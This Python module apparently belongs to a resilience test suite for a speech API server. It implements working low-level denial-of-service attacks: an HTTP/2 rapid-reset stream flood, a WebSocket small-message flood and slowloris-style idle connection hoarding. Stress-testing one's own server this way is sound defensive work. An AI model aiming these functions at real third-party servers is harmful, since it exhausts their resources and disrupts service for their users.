"""Attacks below the level of calls: raw frames of HTTP/2 and WebSocket, and idle connections.

Whatever the server does to such a client is right: each function returns when its time is up or
the server has closed the connection.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import time
from contextlib import ExitStack, suppress

TIMEOUT_S = 2.0  # for one read or write of the attacker
BATCH = 200  # frames that are sent at once
HEADERS, RST_STREAM = 1, 3
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
GRPC = {
    b":method": b"POST",
    b":scheme": b"http",
    b":authority": b"a",
    b"te": b"trailers",
    b"content-type": b"application/grpc",
}


def connect(place: tuple[str, int]) -> socket.socket:
    return socket.create_connection(place, TIMEOUT_S)


def _frame(kind: int, stream: int, payload: bytes, flags: int = 0) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header without tables and Huffman code. Reference: RFC 7541, section 6.2.2."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def reset_streams(
    place: tuple[str, int], path: bytes, seconds: float, per_s: float, extra: bytes = b""
) -> None:
    """Begin streams and reset each at once, on one connection.

    Args:
        per_s: streams a second.
        extra: value of an `authorization` header, of any bytes.
    """
    fields = {b":path": path, **GRPC, **({b"authorization": extra} if extra else {})}
    block = b"".join(_literal(*one) for one in fields.items())
    begin_s, sent = time.monotonic(), 0
    with connect(place) as raw, suppress(OSError):
        raw.sendall(PREFACE)
        while (spent_s := time.monotonic() - begin_s) < seconds:
            if sent > per_s * spent_s:
                time.sleep(0.001)
                continue
            frames = bytearray()
            for number in range(sent, sent + BATCH):
                stream = 2 * number + 1
                frames += _frame(HEADERS, stream, block, END_HEADERS)
                frames += _frame(RST_STREAM, stream, CANCEL)
            raw.sendall(frames)
            sent += BATCH


def tiny_messages(
    place: tuple[str, int], path: str, token: str, first: list[str], message: str, total: int
) -> None:
    """Send `total` bytes of one small WebSocket message, and read no reply."""
    key = "dGhlIHNhbXBsZSBub25jZQ=="  # any 16 bytes
    head = (
        f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
        f"Authorization: Bearer {token}\r\n\r\n"
    )
    small = _masked(message)
    with connect(place) as raw, suppress(OSError):
        raw.sendall(head.encode())
        raw.recv(4096)
        raw.sendall(b"".join(_masked(one) for one in first))
        for _ in range(total // (len(small) * BATCH)):
            raw.sendall(small * BATCH)


def _masked(text: str) -> bytes:
    """A text frame of fewer than 126 bytes. Reference: RFC 6455, section 5.2."""
    mask = os.urandom(4)
    data = bytes(byte ^ mask[place % 4] for place, byte in enumerate(text.encode()))
    return bytes((0x81, 0x80 | len(data))) + mask + data


def hoard(place: tuple[str, int], count: int, seconds: float) -> None:
    """Hold idle connections, every second one with a request whose reply stays unread."""
    with ExitStack() as stack, suppress(OSError):
        for number in range(count):
            one = stack.enter_context(connect(place))
            if number % 2:
                one.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        time.sleep(seconds)


def post(place: tuple[str, int], token: str, **fields: object) -> None:
    """Send a request for speech, and read the beginning of its reply."""
    body = json.dumps(fields).encode()
    head = (
        "POST /v1/audio/speech HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nAuthorization: Bearer {token}\r\n\r\n"
    )
    with connect(place) as raw, suppress(OSError):
        raw.sendall(head.encode() + body)
        raw.recv(4096)
